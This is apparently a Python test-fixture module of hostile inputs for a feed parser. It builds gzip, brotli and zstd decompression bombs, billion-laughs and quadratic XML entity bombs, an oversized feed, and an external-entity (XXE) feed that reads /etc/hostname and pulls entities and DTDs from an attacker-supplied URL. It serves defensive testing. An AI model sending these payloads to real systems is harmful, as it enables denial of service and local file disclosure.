"""Bodies that are small on the wire and huge, or harmful, once they are decoded."""

import gzip
import struct

# What each compressed bomb becomes: eight times the longest body that is accepted.
BOMB_BYTES = 64 << 20

GZIP_BOMB = gzip.compress(bytes(BOMB_BYTES), 9)
MANY_MEMBERS = gzip.compress(b"<p>") * 5_000
# `BOMB_BYTES` zeros, as the reference encoder packs them.
BROTLI_BOMB = bytes.fromhex(
    "cfffff7ff82700e2b14020f7fe9ffffffff04f00c4610180eefd3fffffffe19f0088c32200ddfbfffcffffc73f01"
    "10870500baf7ff"
)

_ZSTD_MAGIC = 0xFD2FB528
_ZSTD_WINDOW = 0x38  # 128 KiB, and neither length nor check sum
_ZSTD_BLOCK = 128 << 10
_REPEATED, _LAST = 1 << 1, 1


def _zstd_bomb(size: int) -> bytes:
    """Blocks of one repeated byte: four bytes on the wire for 128 KiB each (RFC 8878, 3.1.1.2)."""
    headers = [_ZSTD_BLOCK << 3 | _REPEATED] * (size // _ZSTD_BLOCK)
    headers[-1] |= _LAST
    blocks = b"".join(struct.pack("<I", header)[:3] + b"\0" for header in headers)
    return struct.pack("<IBB", _ZSTD_MAGIC, 0, _ZSTD_WINDOW) + blocks


ZSTD_BOMB = _zstd_bomb(BOMB_BYTES)

_FEED = '<?xml version="1.0"?>\n{}<rss version="2.0"><channel><title>{}</title>{}</channel></rss>'
_LAUGHS = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' if level else '<!ENTITY l0 "ha">'
    for level in range(10)
)
ENTITY_BOMB = _FEED.format(f"<!DOCTYPE rss [{_LAUGHS}]>", "&l9;", "").encode()  # 10¹⁰ laughs
QUADRATIC_BOMB = _FEED.format(
    f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 50_000, ""
).encode()


def external_entities(url: str) -> bytes:
    """A feed that names a local file, an address of the attacker's and both at once."""
    declared = (
        f'<!DOCTYPE rss SYSTEM "{url}/rss.dtd" [<!ENTITY file SYSTEM "file:///etc/hostname">'
        f'<!ENTITY net SYSTEM "{url}/entity"><!ENTITY % more SYSTEM "{url}/more"> %more;]>'
    )
    return _FEED.format(declared, "&file;&net;", "").encode()


def endless_feed(size: int) -> bytes:
    """A sound feed, but for its length in bytes."""
    item = "<item><title>Quay opens</title><link>https://menafn.com/1109916091/Quay</link></item>"
    return _FEED.format("", "Kuwait", item * (size // len(item))).encode()
